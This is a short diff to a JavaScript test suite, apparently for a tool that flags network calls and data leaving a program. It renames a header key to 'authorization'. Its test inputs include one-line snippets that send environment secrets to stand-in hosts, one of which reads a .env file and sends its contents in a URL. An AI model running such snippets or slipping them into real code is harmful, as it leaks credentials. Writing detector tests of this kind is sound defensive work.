@@ -89,7 +89,7 @@ describe("network", () => {
       "connect https://h.example change sends[.env body] checked",
     ],
     "fetch('http://localhost:3000/x')": ["connect http://localhost:3000/x fetch checked"],
-    "axios.post('http://h', {t: process.env.T}, {headers: {a: process.env.U}})": [
+    "axios.post('http://h', {t: process.env.T}, {headers: {authorization: process.env.U}})": [
       "connect http://h change sends[T body, U auth] checked",
     ],
     "fs.readFile('.env','utf8',(e,d)=>fetch('http://x/?q='+d))": [
